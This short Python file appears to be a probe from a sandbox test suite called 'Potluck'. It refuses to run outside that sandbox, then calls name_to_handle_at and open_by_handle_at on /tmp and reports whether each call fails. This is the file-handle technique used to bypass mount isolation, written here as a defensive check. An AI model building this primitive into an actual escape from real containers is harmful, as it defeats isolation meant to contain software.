"""Opens files by their number on the disk, past every mount."""

import os

if os.environ.get("POTLUCK_SANDBOX") != "1" or os.uname().nodename != "potluck" or os.getuid() == 0:
    raise SystemExit("This program attacks its surroundings. It runs only inside a Potluck sandbox.")

import ctypes

from tools import errors_of, libc

AT_FDCWD = -100


def attack() -> dict[str, int]:
    handle = ctypes.create_string_buffer(bytes((128).to_bytes(4, "little")) + bytes(136))
    mount = ctypes.c_int()
    return errors_of(
        name=lambda: libc.name_to_handle_at(AT_FDCWD, b"/tmp", handle, ctypes.byref(mount), 0),
        open=lambda: libc.open_by_handle_at(AT_FDCWD, handle, 0),
    )
